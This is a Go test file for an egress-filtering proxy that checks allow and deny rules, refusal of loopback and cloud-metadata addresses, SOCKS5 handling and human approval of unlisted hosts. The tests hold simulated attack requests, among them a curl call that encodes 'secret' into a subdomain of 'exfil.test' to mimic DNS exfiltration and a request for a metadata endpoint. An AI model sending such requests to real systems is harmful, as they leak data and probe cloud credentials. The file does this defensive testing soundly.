@@ -1,0 +1,213 @@
+package egress
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"os/exec"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"golang.org/x/net/proxy"
+)
+
+func TestRules(t *testing.T) {
+	rs, err := compile(Rules{Allowed: []string{"example.com", "*.npmjs.org", "10.0.0.5", "localhost:8080", "api.x.io:443"},
+		Denied: []string{"evil.npmjs.org"}})
+	require.NoError(t, err)
+	cases := []struct {
+		host string
+		port int
+		want Verdict
+	}{
+		{"example.com", 443, Allowed},
+		{"sub.example.com", 443, Unlisted}, // exact names are exact
+		{"registry.npmjs.org", 443, Allowed},
+		{"npmjs.org", 443, Unlisted}, // a wildcard covers what is beneath only
+		{"evil.npmjs.org", 443, Denied},
+		{"10.0.0.5", 22, Allowed},
+		{"localhost", 8080, Allowed},
+		{"localhost", 8081, Unlisted},
+		{"api.x.io", 443, Allowed},
+		{"api.x.io", 80, Unlisted},
+		{"example.com.evil.io", 443, Unlisted},
+	}
+	for _, c := range cases {
+		v, _ := rs.verdict(c.host, c.port)
+		assert.Equal(t, c.want, v, "%s:%d", c.host, c.port)
+	}
+	for _, ip := range []string{"127.0.0.1", "169.254.169.254", "10.1.2.3", "192.168.1.1", "::1", "fe80::1", "100.64.0.1"} {
+		assert.False(t, rs.allowsAddress("name.test", netip.MustParseAddr(ip), 443), "%s behind a name", ip)
+	}
+	assert.True(t, rs.allowsAddress("example.com", netip.MustParseAddr("93.184.216.34"), 443))
+	assert.True(t, rs.allowsAddress("10.0.0.5", netip.MustParseAddr("10.0.0.5"), 22), "an entry naming the IP opens it")
+	assert.True(t, rs.allowsAddress("localhost", netip.MustParseAddr("127.0.0.1"), 8080), "localhost:PORT opens loopback on that port")
+	assert.False(t, rs.allowsAddress("localhost", netip.MustParseAddr("127.0.0.1"), 8081))
+	assert.False(t, rs.allowsAddress("example.com", netip.MustParseAddr("127.0.0.1"), 8080), "an allowed name resolving home opens nothing")
+	assert.False(t, rs.allowsAddress("10.0.0.6", netip.MustParseAddr("10.0.0.5"), 22))
+	for _, bad := range []string{"", "*", "a b", "http://x", "x:0", "x:99999", "*.", ".x"} {
+		assert.Error(t, ParseEntry(bad), "%q", bad)
+	}
+}
+
+// world is a proxy with local servers behind it, and a resolver that sends
+// names where the test says (the sandboxes' real resolver is the
+// machine's; these machines have no internet).
+type world struct {
+	p       *Proxy
+	hits    atomic.Int64
+	http    *httptest.Server
+	tls     *httptest.Server
+	decided []string
+	names   map[string]netip.Addr
+}
+
+func newWorld(t *testing.T, rules func(httpPort, tlsPort int) Rules, ask func(host string, port int) Answer) *world {
+	w := &world{names: map[string]netip.Addr{"localhost": netip.MustParseAddr("127.0.0.1")}}
+	handler := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		w.hits.Add(1)
+		fmt.Fprintf(rw, "hello from %s", r.Host)
+	})
+	w.http = httptest.NewServer(handler)
+	w.tls = httptest.NewTLSServer(handler)
+	t.Cleanup(w.http.Close)
+	t.Cleanup(w.tls.Close)
+	cfg := Config{
+		Rules:   rules(port(w.http.URL), port(w.tls.URL)),
+		Decided: func(host string, port int, d Decision) { w.decided = append(w.decided, fmt.Sprintf("%s:%d=%s", host, port, d)) },
+		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
+			if ip, ok := w.names[host]; ok {
+				return []netip.Addr{ip}, nil
+			}
+			return nil, fmt.Errorf("no such host %s", host)
+		},
+		ConfigHint: "~/.config/cordon/config.toml",
+	}
+	if ask != nil {
+		cfg.Ask = func(_ context.Context, host string, port int) Answer { return ask(host, port) }
+	}
+	p, err := Start(cfg, "")
+	require.NoError(t, err)
+	t.Cleanup(p.Close)
+	w.p = p
+	return w
+}
+
+func port(u string) int {
+	_, p, _ := net.SplitHostPort(strings.TrimPrefix(strings.TrimPrefix(u, "http://"), "https://"))
+	var n int
+	fmt.Sscan(p, &n)
+	return n
+}
+
+// curl runs the real curl through the proxy.
+func (w *world) curl(t *testing.T, args ...string) (string, error) {
+	t.Helper()
+	all := append([]string{"-sS", "-k", "--max-time", "10", "--proxy", fmt.Sprintf("http://127.0.0.1:%d", w.p.Port())}, args...)
+	out, err := exec.Command("curl", all...).CombinedOutput()
+	return string(out), err
+}
+
+func TestProxyThroughRealClients(t *testing.T) {
+	w := newWorld(t, func(h, s int) Rules {
+		return Rules{Allowed: []string{fmt.Sprintf("localhost:%d", h), fmt.Sprintf("localhost:%d", s), "*.allowed.test"},
+			Denied: []string{"bad.allowed.test"}}
+	}, nil)
+	hp, sp := port(w.http.URL), port(w.tls.URL)
+
+	out, err := w.curl(t, fmt.Sprintf("http://localhost:%d/x", hp))
+	require.NoError(t, err, out)
+	assert.Contains(t, out, "hello from localhost")
+	out, err = w.curl(t, fmt.Sprintf("https://localhost:%d/y", sp))
+	require.NoError(t, err, out)
+	assert.Contains(t, out, "hello from localhost", "CONNECT to a self-signed local TLS server")
+
+	// SOCKS5, the name resolved by the proxy (socks5h).
+	d, err := proxy.SOCKS5("tcp", fmt.Sprintf("127.0.0.1:%d", w.p.Port()), nil, proxy.Direct)
+	require.NoError(t, err)
+	c, err := d.Dial("tcp", fmt.Sprintf("localhost:%d", hp))
+	require.NoError(t, err)
+	fmt.Fprintf(c, "GET / HTTP/1.0\r\nHost: localhost\r\n\r\n")
+	body, _ := io.ReadAll(c)
+	c.Close()
+	assert.Contains(t, string(body), "hello from localhost")
+
+	before := w.hits.Load()
+	w.names["www.allowed.test"] = netip.MustParseAddr("127.0.0.1") // an allowed name pointing home
+	w.names["meta.allowed.test"] = netip.MustParseAddr("169.254.169.254")
+	for _, target := range []string{
+		fmt.Sprintf("http://localhost:%d/", hp+1),             // unlisted port
+		fmt.Sprintf("http://127.0.0.1:%d/", hp),               // an IP nobody listed
+		fmt.Sprintf("http://www.allowed.test:%d/", hp),        // allowed name, loopback address
+		"http://meta.allowed.test/latest/meta-data/",          // allowed name, metadata address
+		fmt.Sprintf("http://bad.allowed.test:%d/", hp),        // denied wins
+		fmt.Sprintf("https://unlisted.example.test:%d/", sp), // CONNECT to an unlisted host
+	} {
+		out, _ := w.curl(t, "-i", target)
+		assert.True(t, strings.Contains(out, "403") || strings.Contains(out, "CONNECT tunnel failed"), "%s: %s", target, out)
+	}
+	_, err = d.Dial("tcp", "unlisted.example.test:80")
+	assert.Error(t, err, "SOCKS5 refuses too")
+	assert.Equal(t, before, w.hits.Load(), "no refused connection reached a server")
+	out, _ = w.curl(t, "-i", "http://nowhere.test/")
+	assert.Contains(t, out, `add allowed_domains = ["nowhere.test"] to ~/.config/cordon/config.toml`, "the 403 names the host and the config line")
+	assert.Contains(t, w.p.Blocked(), "nowhere.test:80")
+	assert.Contains(t, w.p.Blocked(), "bad.allowed.test:"+fmt.Sprint(hp))
+	assert.Contains(t, w.decided, fmt.Sprintf("bad.allowed.test:%d=deny", hp))
+	_, resolved := w.names["nowhere.test"]
+	assert.False(t, resolved)
+}
+
+// TestProxyNeverResolvesARefusedName: a refused name is not looked up, so
+// it cannot carry data out in a DNS query.
+func TestProxyNeverResolvesARefusedName(t *testing.T) {
+	var looked []string
+	p, err := Start(Config{Rules: Rules{Allowed: []string{"ok.test"}},
+		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
+			looked = append(looked, host)
+			return nil, fmt.Errorf("no")
+		}}, "")
+	require.NoError(t, err)
+	defer p.Close()
+	exec.Command("curl", "-sS", "--max-time", "5", "--proxy", fmt.Sprintf("http://127.0.0.1:%d", p.Port()), "http://c2VjcmV0.exfil.test/").Run()
+	exec.Command("curl", "-sS", "--max-time", "5", "--proxy", fmt.Sprintf("socks5h://127.0.0.1:%d", p.Port()), "http://c2VjcmV0.exfil.test/").Run()
+	assert.Empty(t, looked)
+}
+
+// TestProxyAsks: an unlisted host waits for the human; allowed once, it
+// stays allowed for the rest of the call, and is not asked about again.
+func TestProxyAsks(t *testing.T) {
+	var asked []string
+	answer := AllowOnce
+	w := newWorld(t, func(h, s int) Rules { return Rules{} }, func(host string, port int) Answer {
+		asked = append(asked, fmt.Sprintf("%s:%d", host, port))
+		return answer
+	})
+	hp := port(w.http.URL)
+	for range 2 {
+		out, err := w.curl(t, fmt.Sprintf("http://localhost:%d/", hp))
+		require.NoError(t, err, out)
+		assert.Contains(t, out, "hello from localhost", "the human named localhost:%d", hp)
+	}
+	assert.Equal(t, []string{fmt.Sprintf("localhost:%d", hp)}, asked, "asked once")
+	assert.Contains(t, w.decided, fmt.Sprintf("localhost:%d=asked-allow", hp))
+
+	// A name the human allows still does not open a private address.
+	w.names["svc.test"] = netip.MustParseAddr("127.0.0.1")
+	out, _ := w.curl(t, "-i", fmt.Sprintf("http://svc.test:%d/", hp))
+	assert.Contains(t, out, "403")
+
+	answer = Refuse
+	before := w.hits.Load()
+	out, _ = w.curl(t, "-i", fmt.Sprintf("http://127.0.0.1:%d/", hp))
+	assert.Contains(t, out, fmt.Sprintf("the human did not allow 127.0.0.1:%d", hp))
+	assert.Contains(t, w.decided, fmt.Sprintf("127.0.0.1:%d=asked-deny", hp))
+	assert.Equal(t, before, w.hits.Load())
+}
